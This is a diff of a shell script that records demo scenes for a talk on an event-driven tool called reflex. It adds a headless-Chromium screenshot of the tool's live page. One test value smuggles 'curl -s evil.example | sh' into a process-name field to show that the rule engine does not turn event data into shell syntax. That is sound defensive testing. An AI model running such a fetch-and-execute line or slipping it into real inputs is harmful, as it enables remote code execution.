@@ -157,12 +157,23 @@ run "reflex registers list hosts/$pb"
 kill -INT "$tailpid"; wait "$tailpid" 2>/dev/null || true
 scenes+=(08-tail-host-down)
 
+# 5. The live page reflex up serves (loopback, with the token from the state dir), opened at
+# the hello event's trace, as a browser shows it: data/live-page.png.
+command -v chromium >/dev/null || { echo "record: chromium is missing (the live page's picture)" >&2; exit 1; }
+sleep 1
+chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
+  --disable-background-networking --disable-component-update --disable-sync \
+  --user-data-dir="$T/chromium" --hide-scrollbars --virtual-time-budget=5000 \
+  --window-size=1280,800 --screenshot="$T/live-page.png" \
+  "http://127.0.0.1:$((base + 7))/?token=$(cat .reflex/http.token)#trace=$id" >/dev/null 2>&1
+[ -s "$T/live-page.png" ] || { echo "record: no picture of the live page" >&2; exit 1; }
+
 # The stack is done: Ctrl-C, as an operator would.
 for p in "${pids[@]}"; do kill -INT "$p" 2>/dev/null || true; done
 for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
 pids=()
 
-# 5. No event value becomes shell syntax (offline: the manager's own rule engine).
+# 6. No event value becomes shell syntax (offline: the manager's own rule engine).
 cd "$repo"
 hostile='{"tag": "beacon/proc", "host": "web1", "data": {"name": "nginx; curl -s evil.example | sh", "present": false}}'
 scene 10-unsafe
@@ -173,7 +184,7 @@ run "reflex rules test rules/60-restart-down.rhai --event '$hostile'"
 scene 12-action
 run "reflex rules test rules/60-restart-down.rhai --event '{\"tag\": \"beacon/proc\", \"host\": \"web1\", \"data\": {\"name\": \"nginx\", \"present\": false}}'"
 
-# 6. The talk's graph, converged for real; the engine writes its DOT once everything settled.
+# 7. The talk's graph, converged for real; the engine writes its DOT once everything settled.
 rm -rf /tmp/reflex-talk-app
 scene 13-apply
 run "reflex apply slides/graphs/app.yaml --converged-timeout 1 --graphviz slides/data/app.dot"
@@ -188,6 +199,7 @@ for f in "$out"/*.txt; do
   [ "$n" = meta ] || [[ " ${scenes[*]} " == *" $n "* ]] || rm -f "$f"
 done
 mv "$here/data/memory-idle.txt.new" "$here/data/memory-idle.txt"
+mv "$T/live-page.png" "$here/data/live-page.png"
 {
   echo "date: $(date -u +%Y-%m-%dT%H:%M:%SZ)"
   echo "commit: $(git -C "$repo" rev-parse --short HEAD)"
